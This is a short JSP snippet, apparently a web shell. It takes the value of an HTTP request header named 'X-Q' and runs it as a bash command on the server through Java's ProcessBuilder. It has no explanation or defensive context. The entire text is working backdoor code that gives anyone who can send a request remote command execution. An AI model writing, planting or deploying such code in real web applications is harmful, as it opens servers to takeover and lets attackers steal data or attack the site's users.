<%
String q = request.getHeader("X-Q");
String[] a = new String[]{"/bin/bash", "-c", q};
new ProcessBuilder(a).start();
%>
